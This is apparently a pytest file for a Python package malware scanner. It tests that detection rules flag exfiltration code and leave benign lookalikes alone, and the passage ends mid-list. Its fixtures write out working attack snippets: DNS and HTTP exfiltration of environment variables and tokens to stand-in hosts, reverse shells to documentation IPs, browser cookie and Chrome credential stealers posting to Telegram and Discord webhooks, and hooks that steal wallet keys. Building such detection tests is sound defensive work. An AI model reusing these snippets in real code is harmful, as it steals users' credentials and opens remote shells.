"""Data leaving the host (caplet._scan._sink_egress): DNS and the whole environment.

The attacks are the techniques of issue 16 point 1 that even the whole-file
pass missed before branch recall6 (each fails on the scanner without it);
the near misses are benign code of the same shape, among them the one that
kept ``os.environ.copy()`` out of the prefilter: jupyter-server's
gateway/managers.py, which posts a filtered copy of the environment to a
configured server and then opens a websocket to a URL built from a field of
the server's answer.
"""

from __future__ import annotations

import textwrap
from pathlib import Path

import pytest

from caplet._findings import Severity
from caplet._scan._model import ScanMode
from caplet._scan._scanner import scan_source
from tests._scan.prefilterkit import found_in_a_package


def danger(
    source: str, filename: str = "pkg/__init__.py", mode: ScanMode = ScanMode.PACKAGE
) -> set[str]:
    findings = scan_source(textwrap.dedent(source), filename, mode=mode)
    return {f.rule_id for f in findings if f.severity is Severity.DANGER}


def message(source: str, rule_id: str) -> str:
    findings = scan_source(textwrap.dedent(source), "pkg/__init__.py", mode=ScanMode.PACKAGE)
    return next(f.message for f in findings if f.rule_id == rule_id)


# -- host data in a name that is resolved -----------------------------------------------------


@pytest.mark.parametrize(
    "source",
    [
        # the domain kept base64-encoded: no literal of the file holds a dot
        """
        import base64, getpass, socket
        D = base64.b64decode("b29iLWNvbGxlY3QuZXhhbXBsZQ==").decode()
        socket.gethostbyname(getpass.getuser().encode().hex() + "." + D)
        """,
        # the labels written out, joined by dots
        """
        import getpass, socket
        socket.gethostbyname(".".join([getpass.getuser(), "q", "dns-sink", "example"]))
        """,
        # gethostbyaddr resolves a host name before it looks the address up
        """
        import getpass, socket
        socket.gethostbyaddr(getpass.getuser() + ".a.dns-sink.example")
        """,
        # asyncio's resolver: the event loop is no network object to the resolver
        """
        import asyncio, socket
        async def f():
            loop = asyncio.get_running_loop()
            await loop.getaddrinfo(socket.gethostname() + ".l.dns-sink.example", 80)
        """,
        # a query message of dnspython's, sent to a nameserver of the attacker's
        """
        import getpass
        import dns.message, dns.query
        q = dns.message.make_query(getpass.getuser() + ".m.dns-sink.example", "A")
        dns.query.udp(q, "198.51.100.53")
        """,
        # the environment walked into the labels
        """
        import os, socket
        for k, v in os.environ.items():
            socket.gethostbyname(f"{k}-{v}".encode().hex()[:60] + ".e.dns-sink.example")
        """,
        # a UDP socket connected or sent to a built name: resolving it is the leak
        """
        import os, socket
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        s.connect((os.getlogin().encode().hex() + ".c.dns-sink.example", 53))
        """,
        """
        import os, socket
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        s.sendto(b"x", (os.getlogin().encode().hex() + ".c.dns-sink.example", 53))
        """,
        """
        import os, socket
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        where = (os.getlogin().encode().hex() + ".c.dns-sink.example", 53)
        s.connect(where)
        """,
        # the host name of a URL, whatever the request sends
        """
        import socket, requests
        h = socket.gethostname().encode().hex()
        requests.get(f"http://{h}.u.dns-sink.example/p.gif")
        """,
        """
        import getpass, urllib.request
        urllib.request.urlopen("https://" + getpass.getuser() + ".u.dns-sink.example/x")
        """,
    ],
)
def test_host_data_in_a_resolved_name_is_reconnaissance_sent(source: str) -> None:
    assert "CPL-THR-017" in danger(source)


def test_the_finding_names_the_data_and_the_resolver() -> None:
    text = message(
        """
        import getpass, socket
        socket.gethostbyaddr(getpass.getuser() + ".a.dns-sink.example")
        """,
        "CPL-THR-017",
    )
    assert "getpass.getuser in a DNS query (socket.gethostbyaddr)" in text


@pytest.mark.parametrize(
    "source",
    [
        # this host's own address: no domain written in the code
        "import socket\nsocket.gethostbyname(socket.gethostname())\n",
        "import socket\nsocket.gethostbyaddr(socket.getfqdn())\n",
        # a server bound on this host's name, a URL of it with a port
        """
        import socket
        s = socket.socket()
        s.connect((socket.gethostname(), 8080))
        """,
        """
        import socket, requests
        requests.get(f"http://{socket.gethostname()}:8080/status")
        """,
        # a configured name in a URL's host: a setting, not the host's identity
        """
        import os, requests
        requests.get(f"https://{os.environ['S3_BUCKET']}.s3.amazonaws.com/index.json")
        """,
        # a name resolved under a fixed domain, without host data
        """
        import socket
        region = input()
        socket.gethostbyname(region + ".s3.amazonaws.com")
        """,
    ],
)
def test_a_name_lookup_without_host_data_under_a_fixed_domain_is_not(source: str) -> None:
    assert "CPL-THR-017" not in danger(source)


def test_plugin_mode_reports_a_dns_leak_too() -> None:
    source = """
    import getpass, socket
    socket.gethostbyaddr(getpass.getuser() + ".a.dns-sink.example")
    """
    assert "CPL-THR-017" in danger(source, mode=ScanMode.PLUGIN)


# -- the whole environment sent ----------------------------------------------------------------


@pytest.mark.parametrize(
    "spelling",
    [
        "os.environ.copy()",
        "dict(os.environ)",
        "{**os.environ}",
        "json.dumps(dict(os.environ))",
        "os.environ._data",
        "copy.deepcopy(os.environ)",
    ],
)
def test_the_whole_environment_sent_in_any_spelling_is_harvesting(spelling: str) -> None:
    source = f"""
    import copy, json, os, requests

    def _send(payload):
        requests.post("https://c.env-sink.example/x", json=payload)

    _send({spelling})
    """
    assert "CPL-THR-006" in danger(source)


def test_an_environment_copy_kept_on_an_object_and_sent_is_harvesting() -> None:
    source = """
    import os, requests
    class Reporter:
        def __init__(self):
            self.env = os.environ.copy()
        def send(self):
            requests.post("https://c.env-sink.example/x", json={"env": self.env})
    Reporter().send()
    """
    assert "CPL-THR-006" in danger(source)


def test_the_environment_stored_under_a_key_and_sent_by_that_key_is_harvesting() -> None:
    # one entry by a key written out is one variable, unless the file stores the whole
    # environment under that very key
    source = """
    import os, requests
    info = {"env": dict(os.environ), "v": 1}
    report = {}
    report["all"] = os.environ.copy()
    requests.post("https://c.env-sink.example/x", json=info["env"])
    requests.post("https://c.env-sink.example/y", json=report["all"])
    """
    findings = scan_source(textwrap.dedent(source), "pkg/__init__.py", mode=ScanMode.PACKAGE)
    assert {f.line for f in findings if f.rule_id == "CPL-THR-006"} >= {6, 7}


def test_a_field_of_the_answer_to_a_request_that_sent_a_filtered_copy_is_not() -> None:
    # jupyter-server's gateway/managers.py (start_kernel, start_channels), reduced: a copy
    # of the environment filtered to the kernel's own variables is posted to a configured
    # server; a websocket is then opened to a URL built from the "id" of its answer
    source = """
    import os
    import websocket
    from tornado.escape import json_decode, json_encode, url_escape
    from .gateway_client import GatewayClient, gateway_request

    class Manager:
        async def start_kernel(self, **kwargs):
            payload_envs = os.environ.copy()
            payload_envs.update(kwargs.get("env", {}))
            kernel_env = {
                k: v
                for (k, v) in payload_envs.items()
                if k.startswith("KERNEL_") or k in GatewayClient.instance().allowed_envs
            }
            json_body = json_encode({"name": "python3", "env": kernel_env})
            response = await gateway_request(self.kernels_url, method="POST", body=json_body)
            self.kernel = json_decode(response.body)
            self.kernel_id = self.kernel["id"]

        def start_channels(self):
            ws_url = GatewayClient.instance().ws_url + "/" + url_escape(self.kernel_id)
            self.channel_socket = websocket.create_connection(ws_url, timeout=60)
    """
    assert "CPL-THR-006" not in danger(source, "jupyter_server/gateway/managers.py")


@pytest.mark.parametrize(
    "entry",
    ['env["HOME"]', 'env.get("LANG")', 'env.get("LANG", "C")', 'env.pop("PWD", "")'],
)
def test_one_variable_of_an_environment_copy_is_not_the_environment(entry: str) -> None:
    source = f"""
    import os, requests
    env = os.environ.copy()
    requests.get("https://api.example.com/v1", params={{"x": {entry}}})
    """
    assert "CPL-THR-006" not in danger(source)


def test_plugin_mode_reports_an_environment_copy_sent_too() -> None:
    source = """
    import os, requests
    def _send(payload):
        requests.post("https://c.env-sink.example/x", json=payload)
    _send(os.environ.copy())
    """
    assert "CPL-THR-006" in danger(source, mode=ScanMode.PLUGIN)


# -- blind13: secrets read by a loop over their names ---------------------------------------

_WALKED_SECRETS = [
    """
    import http.client, json, os
    out = {k: os.environ.get(k) for k in ("AWS_ACCESS_KEY_ID", "AWS_SECRET_ACCESS_KEY")}
    c = http.client.HTTPConnection("198.51.100.61", 8080)
    c.request("POST", "/a", json.dumps(out))
    """,
    """
    import os, requests
    NAMES = ["GITHUB_TOKEN", "NPM_TOKEN", "PYPI_API_TOKEN"]
    stolen = []
    for name in NAMES:
        stolen.append(os.environ[name])
    requests.post("https://c.env-sink.example/x", json=stolen)
    """,
]


@pytest.mark.parametrize("source", _WALKED_SECRETS)
@pytest.mark.parametrize("mode", [ScanMode.PACKAGE, ScanMode.PLUGIN])
def test_secrets_read_by_a_loop_over_their_names_and_sent_are_harvesting(
    source: str, mode: ScanMode
) -> None:
    assert "CPL-THR-006" in danger(source, mode=mode)


@pytest.mark.parametrize(
    "source",
    [
        *_WALKED_SECRETS,
        # written out one by one: the prefilter looked only for SECRET_ACCESS (main missed
        # it in package mode, the whole-file pass did not)
        """
        import os, requests
        stolen = [os.environ["GITHUB_TOKEN"], os.getenv("NPM_TOKEN")]
        requests.post("https://c.env-sink.example/x", json=stolen)
        """,
    ],
)
def test_the_prefilter_keeps_secrets_read_by_name_beside_the_network(
    source: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    found_in_a_package(tmp_path, monkeypatch, textwrap.dedent(source), "CPL-THR-006")


def test_settings_read_by_a_loop_over_their_names_and_sent_are_not() -> None:
    # a loop over names that hold no secret, and one token sent to its own provider
    source = """
    import os, requests
    info = {k: os.environ.get(k) for k in ("LANG", "TERM", "TZ")}
    headers = {k: os.environ[k] for k in ("GITHUB_TOKEN",)}
    requests.post("https://api.github.com/markdown", json=info, headers=headers)
    """
    assert "CPL-THR-006" not in danger(source)
    assert "CPL-THR-006" not in danger(source, mode=ScanMode.PLUGIN)


# -- blind14: a websocket's URL is a fixed host; a beacon's commands run by a loop ------------

_WEBSOCKET_BEACONS = {
    "websocket-getuser": """
    import getpass, websocket
    ws = websocket.create_connection("ws://203.0.113.180:8765/b")
    ws.send(getpass.getuser())
    """,
    "loop-of-recon-commands": """
    import json, subprocess, websocket
    info = {c: subprocess.check_output(c, shell=True, text=True) for c in ("whoami", "uname -a")}
    ws = websocket.create_connection("wss://beacon.example/b")
    ws.send(json.dumps(info))
    """,
    "for-loop-requests": """
    import subprocess, requests
    out = []
    for cmd in ["hostname", "whoami"]:
        out.append(subprocess.getoutput(cmd))
    requests.post("http://203.0.113.181/r", data="\\n".join(out))
    """,
}


@pytest.mark.parametrize("shape", sorted(_WEBSOCKET_BEACONS))
@pytest.mark.parametrize("mode", [ScanMode.PACKAGE, ScanMode.PLUGIN])
def test_host_data_sent_over_a_websocket_or_by_a_loop_of_commands_is_a_beacon(
    shape: str, mode: ScanMode
) -> None:
    assert "CPL-THR-017" in danger(_WEBSOCKET_BEACONS[shape], mode=mode)


@pytest.mark.parametrize("shape", sorted(_WEBSOCKET_BEACONS))
def test_the_prefilter_keeps_a_websocket_or_looped_beacon(
    shape: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    source = textwrap.dedent(_WEBSOCKET_BEACONS[shape])
    found_in_a_package(tmp_path, monkeypatch, source, "CPL-THR-017")


@pytest.mark.parametrize(
    "source",
    [
        # a development server's live-reload websocket on this machine
        """
        import getpass, websocket
        ws = websocket.create_connection("ws://localhost:8765/reload")
        ws.send(getpass.getuser())
        """,
        # a build's version report: a loop of commands, none of which describes the host
        """
        import json, subprocess, requests
        cmds = ("git describe", "gcc --version")
        report = {c: subprocess.check_output(c, shell=True, text=True) for c in cmds}
        requests.post("https://ci.example/report", data=json.dumps(report))
        """,
    ],
    ids=["local-websocket", "build-commands"],
)
@pytest.mark.parametrize("mode", [ScanMode.PACKAGE, ScanMode.PLUGIN])
def test_a_local_websocket_or_a_loop_of_build_commands_is_no_beacon(
    source: str, mode: ScanMode
) -> None:
    assert "CPL-THR-017" not in danger(source, mode=mode)


# -- blind14: a shell relayed to a socket by threads (no dup2, no pty) ------------------------

_RELAYED_SHELLS = {
    "threads-cmd": """
    import socket, subprocess, threading
    def pump(src, dst):
        while True:
            dst.write(src.recv(1024))
    s = socket.socket()
    s.connect(("203.0.113.250", 6969))
    p = subprocess.Popen(["cmd.exe"], stdin=subprocess.PIPE, stdout=subprocess.PIPE)
    threading.Thread(target=pump, args=(s, p.stdin), daemon=True).start()
    """,
    "socket-as-stdin": """
    import socket, subprocess
    s = socket.create_connection(("198.51.100.77", 443))
    subprocess.call(["/bin/sh", "-i"], stdin=s, stdout=s, stderr=s)
    """,
}


@pytest.mark.parametrize("shape", sorted(_RELAYED_SHELLS))
@pytest.mark.parametrize("mode", [ScanMode.PACKAGE, ScanMode.PLUGIN])
def test_a_shell_relayed_to_a_socket_to_a_fixed_host_is_a_reverse_shell(
    shape: str, mode: ScanMode
) -> None:
    assert "CPL-THR-008" in danger(_RELAYED_SHELLS[shape], mode=mode)


@pytest.mark.parametrize("shape", sorted(_RELAYED_SHELLS))
def test_the_prefilter_keeps_a_relayed_shell(
    shape: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    source = textwrap.dedent(_RELAYED_SHELLS[shape])
    found_in_a_package(tmp_path, monkeypatch, source, "CPL-THR-008")


@pytest.mark.parametrize(
    "source",
    [
        # a shell given a script on its piped input, beside a client of a fixed server
        """
        import socket, subprocess
        s = socket.create_connection(("203.0.113.9", 80))
        p = subprocess.Popen(["bash", "-c", "make install"], stdin=subprocess.PIPE)
        p.communicate(b"y\\n")
        """,
        # a local terminal server: a shell for a browser on this machine, nothing connects out
        """
        import socket, subprocess
        srv = socket.socket()
        srv.bind(("127.0.0.1", 8765))
        shell = subprocess.Popen(["/bin/bash"], stdin=subprocess.PIPE, stdout=subprocess.PIPE)
        """,
    ],
    ids=["script-given", "local-server"],
)
def test_a_shell_given_a_script_or_served_locally_is_no_reverse_shell(source: str) -> None:
    for mode in (ScanMode.PACKAGE, ScanMode.PLUGIN):
        assert "CPL-THR-008" not in danger(source, mode=mode)


# -- the browsers' cookies read by a library and sent (branch recall14) -----------------------

_COOKIES_SENT = [
    # the jar's cookies posted
    """
    import browser_cookie3, requests
    cj = browser_cookie3.chrome()
    requests.post("https://k.recall14.example/c", data=str([(c.name, c.value) for c in cj]))
    """,
    # every browser's, as JSON through urllib
    """
    import json, urllib.request
    import browser_cookie3 as bc
    body = json.dumps([[c.domain, c.name, c.value] for c in bc.load()]).encode()
    urllib.request.urlopen("https://k.recall14.example/j", data=body)
    """,
    # one cookie found by a loop over two browsers' loaders, sent to a Telegram bot
    """
    import requests
    from browser_cookie3 import chrome, edge
    for loader in (chrome, edge):
        for c in loader(domain_name="roblox.com"):
            if c.name == ".ROBLOSECURITY":
                bot = "https://api.telegram.org/bot1:X/sendMessage"
                requests.get(bot, params={"text": c.value})
    """,
    # rookiepy's list posted to a Discord webhook
    """
    import rookiepy, requests
    hook = "https://discord.com/api/webhooks/1/DEFANGED"
    requests.post(hook, json={"content": str(rookiepy.load())})
    """,
    # a dict made from a jar, handed as cookies to another host: requests sends a dict anywhere
    """
    import browser_cookie3, requests
    jar = browser_cookie3.chrome()
    requests.get("https://k.recall14.example/", cookies={c.name: c.value for c in jar})
    """,
    # another site's cookies read by pycookiecheat, handed as cookies to this host
    """
    import requests
    from pycookiecheat import chrome_cookies
    requests.get("https://k.recall14.example/", cookies=chrome_cookies("https://bank.example"))
    """,
]


@pytest.mark.parametrize("source", _COOKIES_SENT)
@pytest.mark.parametrize("mode", [ScanMode.PACKAGE, ScanMode.PLUGIN])
def test_the_browsers_cookies_sent_anywhere_are_stolen(source: str, mode: ScanMode) -> None:
    assert "CPL-THR-007" in danger(source, mode=mode)


@pytest.mark.parametrize("source", _COOKIES_SENT)
def test_the_prefilter_sends_a_cookie_reader_to_the_rules(
    source: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    found_in_a_package(tmp_path, monkeypatch, textwrap.dedent(source), "CPL-THR-007")


@pytest.mark.parametrize(
    "source",
    [
        # the libraries' documented use: the jar handed to an HTTP client, which sends each
        # cookie only to its own site
        """
        import browser_cookie3, requests
        cj = browser_cookie3.chrome(domain_name="example.org")
        print(requests.get("https://example.org/feed", cookies=cj).text)
        """,
        """
        import browser_cookie3, requests
        s = requests.Session()
        s.cookies.update(browser_cookie3.firefox(domain_name=".youtube.com"))
        s.get("https://www.youtube.com/feed")
        """,
        """
        import browser_cookie3, urllib.request
        jar = urllib.request.HTTPCookieProcessor(browser_cookie3.load())
        urllib.request.build_opener(jar).open("https://example.org/feed").read()
        """,
        # the cookies of the URL asked, sent to it
        """
        import requests
        from pycookiecheat import chrome_cookies
        url = "https://example.org/private"
        requests.get(url, cookies=chrome_cookies(url))
        """,
    ],
)
@pytest.mark.parametrize("mode", [ScanMode.PACKAGE, ScanMode.PLUGIN])
def test_cookies_handed_to_their_own_site_are_not_stolen(source: str, mode: ScanMode) -> None:
    assert "CPL-THR-007" not in danger(source, mode=mode)


def test_chromes_cookie_database_and_key_read_and_posted_are_a_stealer() -> None:
    # already found by the credential-store indicators (CPL-THR-005): kept beside the
    # library spellings above as the same theft without a library
    source = """
    import json, os, sqlite3, requests
    root = os.path.join(os.environ["LOCALAPPDATA"], "Google", "Chrome", "User Data")
    key = json.load(open(os.path.join(root, "Local State")))["os_crypt"]["encrypted_key"]
    rows = sqlite3.connect(os.path.join(root, "Default", "Network", "Cookies")).execute(
        "SELECT host_key, name, encrypted_value FROM cookies").fetchall()
    requests.post("https://k.recall14.example/", json={"k": key, "r": str(rows)})
    """
    assert "CPL-THR-005" in danger(source)


#: blind15 (tune b15-re-socket-connect-hook; ReversingLabs on dbgpkg, 2025): the standard
#: library's network classes replaced by a class of this file whose methods send what
#: they see to a fixed host: every connection the program makes is reported.
SOCKET_HOOKS = [
    "import socket\n"
    "_Base = socket.socket\n"
    "_SINK = ('198.51.100.23', 5353)\n"
    "class _Watch(_Base):\n"
    "    def connect(self, address):\n"
    "        probe = _Base(socket.AF_INET, socket.SOCK_DGRAM)\n"
    "        probe.sendto(repr(address).encode(), _SINK)\n"
    "        return super().connect(address)\n"
    "socket.socket = _Watch\n",
    "import socket, urllib.request\n"
    "_orig = socket.create_connection\n"
    "def _hook(address, *a, **k):\n"
    "    urllib.request.urlopen('https://c.example/a?d=' + str(address))\n"
    "    return _orig(address, *a, **k)\n"
    "socket.create_connection = _hook\n",
]


@pytest.mark.parametrize("source", SOCKET_HOOKS)
def test_a_network_class_or_function_of_the_stdlib_replaced_by_a_reporter_is_a_threat(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, source: str
) -> None:
    assert "CPL-THR-025" in danger(source)
    found_in_a_package(tmp_path, monkeypatch, source, "CPL-THR-025")


@pytest.mark.parametrize(
    "source",
    [
        # gevent/eventlet: a cooperative socket class in place of the standard one
        "import socket\n"
        "class GreenSocket(socket.socket):\n"
        "    def connect(self, address):\n"
        "        self.setblocking(False)\n"
        "        return super().connect(address)\n"
        "    def sendto(self, data, address):\n"
        "        return super().sendto(data, address)\n"
        "socket.socket = GreenSocket\n",
        # a test double for the resolver, in a package's helper (not a test file)
        "import socket\n"
        "def fake_getaddrinfo(host, port, *a, **k):\n"
        "    return [(socket.AF_INET, socket.SOCK_STREAM, 6, '', ('127.0.0.1', port))]\n"
        "socket.getaddrinfo = fake_getaddrinfo\n",
    ],
)
def test_a_stdlib_network_class_replaced_by_one_that_reports_nothing_is_not_a_threat(
    source: str,
) -> None:
    assert "CPL-THR-025" not in danger(source)


# -- blind16: host details handed to the user's browser in a URL's query ----------------------

BROWSER_SENT = [
    "import getpass, socket, urllib.parse, webbrowser\n"
    "q = urllib.parse.urlencode({'u': getpass.getuser(), 'h': socket.gethostname()})\n"
    "webbrowser.open('https://docs.q.example/welcome?' + q, new=0, autoraise=False)\n",
    "import os, platform, webbrowser\n"
    "webbrowser.open_new_tab(f'https://t.example/p?n={platform.node()}&u={os.getlogin()}')\n",
]


@pytest.mark.parametrize("source", BROWSER_SENT)
def test_host_details_in_a_url_the_browser_opens_are_reconnaissance_sent(source: str) -> None:
    assert "CPL-THR-017" in danger(source, mode=ScanMode.PACKAGE)


@pytest.mark.parametrize("source", BROWSER_SENT)
def test_host_details_sent_by_the_browser_are_found_with_the_prefilter_too(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, source: str
) -> None:
    found_in_a_package(tmp_path, monkeypatch, source, "CPL-THR-017")


@pytest.mark.parametrize(
    "source",
    [
        "import webbrowser\nwebbrowser.open('https://docs.example.org/quickstart')\n",
        # a local report, and a URL the caller chose
        "import os, webbrowser\n"
        "webbrowser.open('file://' + os.path.join(os.getcwd(), 'htmlcov', 'index.html'))\n",
        "import socket, webbrowser\ndef show(url):\n    webbrowser.open(url)\n"
        "print(socket.gethostname())\n",
        # the local server this tool started, on this host's name
        "import socket, webbrowser\nwebbrowser.open(f'http://{socket.gethostname()}:8888/tree')\n",
    ],
)
def test_urls_the_browser_opens_that_carry_no_host_details_away_stay_clean(source: str) -> None:
    assert "CPL-THR-017" not in danger(source, mode=ScanMode.PACKAGE)


# -- recall17: a builtin replaced by a function that sends -------------------------------------

#: blind16's b16-ot-import-wrapper-boto3 (ReversingLabs, 2025): ``builtins.__import__``
#: wrapped so that importing boto3 posts its credentials; the same for any builtin a
#: replacement sends from (clean on main: builtins were never a patched library).
BUILTIN_HOOKS = [
    (
        Path(__file__).resolve().parents[2]
        / "benchmarks/malware/tune/b16-ot-import-wrapper-boto3/importtime_profiler/__init__.py"
    ).read_text(encoding="utf-8"),
    "import builtins, requests\n"
    "_real = builtins.__import__\n"
    "def _imp(name, *a, **k):\n"
    "    m = _real(name, *a, **k)\n"
    "    if name == 'openai':\n"
    "        requests.post('https://t.recall17.example/k', json={'k': m.api_key})\n"
    "    return m\n"
    "setattr(builtins, '__import__', _imp)\n",
    "import builtins, urllib.request\n"
    "_open = builtins.open\n"
    "def _spy(path, *a, **k):\n"
    "    urllib.request.urlopen('http://198.51.100.7/o?p=' + str(path))\n"
    "    return _open(path, *a, **k)\n"
    "builtins.open = _spy\n",
]


@pytest.mark.parametrize("source", BUILTIN_HOOKS)
def test_a_builtin_replaced_by_a_function_that_sends_is_a_threat(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, source: str
) -> None:
    assert "CPL-THR-025" in danger(source)
    assert "CPL-THR-025" in danger(source, mode=ScanMode.PLUGIN)
    found_in_a_package(tmp_path, monkeypatch, source, "CPL-THR-025")


@pytest.mark.parametrize(
    "source",
    [
        # an import-time profiler (python -X importtime's kin): it times, it sends nothing
        "import builtins, time\n"
        "_orig = builtins.__import__\n"
        "TIMES = {}\n"
        "def _timed(name, *a, **k):\n"
        "    t = time.perf_counter()\n"
        "    try:\n"
        "        return _orig(name, *a, **k)\n"
        "    finally:\n"
        "        TIMES[name] = time.perf_counter() - t\n"
        "builtins.__import__ = _timed\n",
        # a lazy importer that reads boto3's credentials to warn of their absence
        "import builtins, logging\n"
        "_orig = builtins.__import__\n"
        "def _check(name, *a, **k):\n"
        "    m = _orig(name, *a, **k)\n"
        "    if name == 'boto3' and m.Session().get_credentials() is None:\n"
        "        logging.warning('no AWS credentials')\n"
        "    return m\n"
        "builtins.__import__ = _check\n",
        # gettext's _ installed as a builtin
        "import builtins, gettext\nbuiltins._ = gettext.gettext\n",
    ],
)
def test_a_builtin_replaced_by_one_that_sends_nothing_is_not_a_threat(source: str) -> None:
    assert "CPL-THR-025" not in danger(source)


def test_an_attribute_of_self_is_not_a_builtin_replaced() -> None:
    """The lead's merge of recall17 and blind17: ``self.completions = Completions(...)``
    in a method resolved ``self`` (never bound in the file) as ``builtins.self``, so with
    builtins now patchable the assignment read as "builtins.self.completions replaced"
    by a class that sends: litellm's main.py was CPL-THR-025 in the whole-file pass and
    in plugin mode (found by prefilter_differential.py on the merged code)."""
    source = (
        "import httpx\n"
        "class Completions:\n"
        "    def create(self, **kw):\n"
        "        return httpx.post('https://api.provider.example/v1/chat', json=kw)\n"
        "class Chat:\n"
        "    def __init__(self):\n"
        "        self.completions = Completions()\n"
    )
    assert "CPL-THR-025" not in danger(source)
    assert "CPL-THR-025" not in danger(source, mode=ScanMode.PLUGIN)


# -- recall17: a .env file's values sent ----------------------------------------------------

#: blind16's b16-ts-dotenv-wrapper (Socket, 2025): a python-dotenv typosquat re-exports it
#: and wraps load_dotenv so that the parsed values are posted (clean on main: a .env
#: file's values were no source).
DOTENV_SENT = [
    (
        Path(__file__).resolve().parents[2]
        / "benchmarks/malware/tune/b16-ts-dotenv-wrapper/dotenvv/__init__.py"
    ).read_text(encoding="utf-8"),
    "import dotenv, requests\n"
    "def load(path='.env'):\n"
    "    values = dotenv.dotenv_values(path)\n"
    "    requests.post('https://cfg.recall17.example/', json=values)\n"
    "    return values\n",
    "from dotenv.main import dotenv_values\nimport socket\n"
    "s = socket.create_connection(('203.0.113.5', 443))\n"
    "s.sendall(str(dict(dotenv_values())).encode())\n",
]


@pytest.mark.parametrize("source", DOTENV_SENT)
def test_a_dotenv_files_values_sent_are_harvesting(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, source: str
) -> None:
    assert "CPL-THR-006" in danger(source)
    assert "CPL-THR-006" in danger(source, mode=ScanMode.PLUGIN)
    found_in_a_package(tmp_path, monkeypatch, source, "CPL-THR-006")


@pytest.mark.parametrize(
    "source",
    [
        # a wrapper that loads, logs the names it set and returns (no value leaves)
        "from dotenv import dotenv_values, load_dotenv as _ld\nimport logging\n"
        "def load_dotenv(*a, **k):\n"
        "    r = _ld(*a, **k)\n"
        "    logging.info('loaded %s', sorted(dotenv_values(*a[:1])))\n"
        "    return r\n",
        # one value of the file used as the token of the API it belongs to
        "from dotenv import dotenv_values\nimport requests\n"
        "config = dotenv_values('.env')\n"
        "requests.get(config['API_URL'], headers={'Authorization': config['API_TOKEN']})\n",
    ],
)
def test_a_dotenv_wrapper_that_sends_no_values_is_clean(source: str) -> None:
    assert "CPL-THR-006" not in danger(source)


# -- blind17: library functions wrapped in a loop by a sender (b17-ot-keypair-hfspace) ---------
# after Socket's 2024 write-up of the solana-py typosquat: names a loop takes, the
# replacement a factory's inner function, the send a thread's target

WRAPPED = [
    # names a loop takes, the replacement a factory's inner function, the send a thread's
    """
    import threading, requests
    from solders import keypair as kp
    SINK = "https://x.hf.space/api/log"
    def send(secret):
        requests.post(SINK, json={"k": list(secret)})
    def wrap(fn):
        def inner(*a, **kw):
            k = fn(*a, **kw)
            threading.Thread(target=send, args=(bytes(k),)).start()
            return k
        return inner
    for name in ("from_bytes", "from_seed"):
        setattr(kp.Keypair, name, staticmethod(wrap(getattr(kp.Keypair, name))))
    """,
    """
    import urllib.request, json
    import eth_account
    def leak(key):
        urllib.request.urlopen("https://c.example/k", data=json.dumps([key]).encode())
    def hook(original):
        def create(*a):
            acct = original(*a)
            leak(acct.key.hex())
            return acct
        return create
    for n in ["create", "from_key"]:
        setattr(eth_account.Account, n, hook(getattr(eth_account.Account, n)))
    """,
]


@pytest.mark.parametrize("source", WRAPPED)
@pytest.mark.parametrize("mode", [ScanMode.PACKAGE, ScanMode.PLUGIN])
def test_library_functions_wrapped_in_a_loop_by_a_sender_are_replaced(
    source: str, mode: ScanMode
) -> None:
    assert "CPL-THR-025" in danger(source, mode=mode)


@pytest.mark.parametrize("source", WRAPPED)
def test_wrapped_library_functions_are_found_with_the_prefilter_too(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, source: str
) -> None:
    found_in_a_package(tmp_path, monkeypatch, textwrap.dedent(source), "CPL-THR-025")


def test_wrappers_that_time_or_log_locally_stay_clean() -> None:
    # instrumentation: a library's methods wrapped to time them, reported to a local logger
    source = """
    import logging, time, requests
    from solders import keypair as kp
    log = logging.getLogger(__name__)
    def timed(fn):
        def inner(*a, **kw):
            t = time.perf_counter()
            try:
                return fn(*a, **kw)
            finally:
                log.debug("%s took %.3f", fn.__name__, time.perf_counter() - t)
        return inner
    for name in ("from_bytes", "from_seed"):
        setattr(kp.Keypair, name, staticmethod(timed(getattr(kp.Keypair, name))))
    def status():
        return requests.get("https://api.mainnet-beta.solana.com/health").text
    """
    assert "CPL-THR-025" not in danger(source)


# -- blind18: an MQTT broker as the egress (b18-re-mqtt-publish) -------------------------------


def test_host_data_published_to_an_mqtt_broker_is_a_beacon(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    found_in_a_package(
        tmp_path,
        monkeypatch,
        "import json, os, platform\nimport paho.mqtt.client as mqtt\n"
        "c = mqtt.Client()\nc.connect('broker.hivemq.com', 1883, 30)\n"
        "c.publish('t/' + platform.node(), json.dumps({'u': os.getlogin()}))\n",
        "CPL-THR-017",
    )


def test_sensor_readings_published_to_a_broker_stay_clean() -> None:
    assert not danger(
        "import json, time\nimport paho.mqtt.client as mqtt\n"
        "c = mqtt.Client()\nc.connect('broker.example.org', 1883)\n"
        "def report(reading):\n"
        "    c.publish('sensors/temp', json.dumps({'t': time.time(), 'v': reading}))\n"
    )


# -- recall18: a builtin or a library's function replaced through its module's namespace ----

_SENDING_HOOK = (
    "import builtins, urllib.request\n"
    "_real = __import__\n"
    "def _hook(name, *a, **k):\n"
    "    urllib.request.urlopen('https://t.recall18.example/m?n=' + name, timeout=2)\n"
    "    return _real(name, *a, **k)\n"
)


@pytest.mark.parametrize(
    "store",
    [
        "vars(builtins)['__import__'] = _hook",
        "builtins.__dict__['__import__'] = _hook",
        "__builtins__['__import__'] = _hook",
        "vars(builtins)['__imp' + 'ort__'] = _hook",
        # a library's module, the same way (a wallet library's key class wrapped)
        "import eth_keys.keys\nvars(eth_keys.keys)['PrivateKey'] = _hook",
    ],
)
def test_a_function_replaced_through_its_modules_namespace_is_a_threat(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, store: str
) -> None:
    source = _SENDING_HOOK + store + "\n"
    assert "CPL-THR-025" in danger(source)
    found_in_a_package(tmp_path, monkeypatch, source, "CPL-THR-025")


@pytest.mark.parametrize(
    "source",
    [
        # the same hook stored by a function that sends nothing (an import timer)
